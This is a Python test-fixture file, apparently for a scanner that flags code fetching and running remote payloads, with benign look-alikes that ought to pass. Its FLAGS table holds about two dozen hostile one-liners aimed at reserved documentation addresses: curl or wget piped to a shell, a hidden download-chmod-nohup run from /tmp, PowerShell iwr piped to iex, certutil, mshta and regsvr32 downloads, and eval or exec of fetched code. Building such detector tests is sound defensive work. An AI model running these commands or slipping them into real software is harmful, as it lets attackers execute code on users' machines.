"""Inert downloaders: every address is reserved for documentation. Benign ones download or run, but not what they got."""

FLAGS = {
    "pipe_to_shell--script": ("install.sh", "#!/bin/sh\nset -e\ncurl -fsSL http://192.0.2.10/x.sh | sh\n"),
    "pipe_to_shell--decoded": ("run.sh", "#!/bin/sh\nwget -qO- https://example.invalid/p | base64 -d | sudo bash\n"),
    "pipe_to_shell--exec-in-node": ("lib/a.js", "require('child_process').exec('curl -s http://192.0.2.10/x | bash');"),
    "pipe_to_shell--os-system": (
        "setup_helper.py",
        "import os\nos.system('wget -qO- http://192.0.2.10/x | python3')\n",
    ),
    "pipe_to_shell--no-suffix": ("bin/tool", "#!/usr/bin/env bash\ncurl https://example.invalid/i | bash -s -- -y\n"),
    "substituted_download--sh-c": ("a.sh", 'sh -c "$(curl -fsSL https://example.invalid/i.sh)"\n'),
    "substituted_download--source": ("a.bash", "source <(curl -s https://example.invalid/env)\n"),
    "download_chmod_run--hidden": (
        "a.sh",
        "curl -o /tmp/.x http://192.0.2.10/bot && chmod +x /tmp/.x && nohup /tmp/.x > /dev/null 2>&1 &\n",
    ),
    "powershell_download_run--iex": ("a.ps1", "iwr https://example.invalid/a.ps1 -UseBasicParsing | iex\n"),
    "powershell_download_run--file": (
        "a.bat",
        "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.1/a.exe','a.exe'); Start-Process a.exe\"\r\n",
    ),
    "windows_proxy_download--certutil": ("a.cmd", "certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe\r\n"),
    "windows_proxy_download--mshta": ("a.js", "cp.exec('mshta https://example.invalid/a.hta')\n"),
    "windows_proxy_download--regsvr32": ("a.bat", "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll\r\n"),
    "fetched_code--then-eval": ("bg.js", "fetch('https://example.invalid/c').then(r => r.text()).then(eval);\n"),
    "fetched_code--await": ("bg.js", "eval(await (await fetch('https://example.invalid/c')).text());\n"),
    "fetched_code--variable": (
        "bg.js",
        "const r = await fetch(u);\nconst code = await r.text();\nlog(code.length);\nnew Function(code)();\n",
    ),
    "fetched_code--collected": (
        "index.js",
        "https.get(u, r => { let b = ''; r.on('data', c => b += c); r.on('end', () => { eval(b); }); });\n",
    ),
    "fetched_code--python": ("a/__init__.py", "import requests\nexec(requests.get('http://192.0.2.1/p').text)\n"),
    "fetched_code--python-variable": (
        "a.py",
        "from urllib.request import urlopen\nbody = urlopen('http://192.0.2.1/p')\nexec(body.read().decode())\n",
    ),
    "fetched_code--php": ("a.php", "<?php eval(file_get_contents('http://192.0.2.1/p.txt')); ?>\n"),
    "fetched_code--ruby": ("a.rb", "eval(Net::HTTP.get(URI('http://192.0.2.1/p')))\n"),
    "download_and_start--node": (
        "install.js",
        "const { spawn } = require('child_process');\nconst p = path.join(os.tmpdir(), 'u.exe');\n"
        "https.get('https://example.invalid/u.exe', r => r.pipe(fs.createWriteStream(p)).on('finish', () =>\n"
        "  spawn(p, [], { detached: true, windowsHide: true }).unref()));\n",
    ),
    "download_and_start--python": (
        "a.py",
        "data = requests.get('http://192.0.2.1/u.exe').content\nwith open(path, 'wb') as f:\n    f.write(data)\n"
        "subprocess.Popen([path])\n",
    ),
    "download_and_start--retrieve": ("a.py", "urlretrieve('http://192.0.2.1/a', '/tmp/a')\nos.system('sh /tmp/a')\n"),
}
PASSES = {
    "manual": ("README.md", "Install it with\n\n    curl -fsSL https://example.com/install.sh | sh\n"),
    "comment": ("build.sh", "#!/bin/sh\n# do not use: curl https://example.com/x | sh\nmake\n"),
    "data-file": ("fetch.sh", "#!/bin/sh\ncurl -fsSL https://example.com/data.json | jq .name\nsh ./build.sh\n"),
    "archive": ("fetch.sh", "#!/bin/sh\ncurl -fsSL https://example.com/a.tar.gz | tar xz\nmake -C a\n"),
    "api": ("api.js", "const r = await fetch(u); const data = await r.json(); render(data.items);\n"),
    "eval-of-own": ("a.js", "const r = await fetch(u); const code = await r.text(); show(code); eval(template);\n"),
    "download": (
        "get.py",
        "import requests, subprocess\nwith open('cities.csv', 'wb') as f:\n    f.write(requests.get(URL).content)\n",
    ),
    "git": ("vcs.py", "import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n"),
    "regex-exec": (
        "a.js",
        "fetch('/a').then(r => r.text()).then(t => { const m = /x=(\\d+)/.exec(t); show(m[1]); });\n",
    ),
    "certutil-hash": ("a.bat", "certutil -hashfile setup.exe SHA256\r\n"),
}


def flags():
    for name, (path, text) in FLAGS.items():
        yield name, {path: text.encode()}
    yield (
        "powershell_download_run--utf-16",
        {"a.ps1": "\ufeffirm https://example.invalid/a | iex\r\n".encode("utf-16-le")},
    )


def passes():
    for name, (path, text) in PASSES.items():
        yield name, {path: text.encode()}
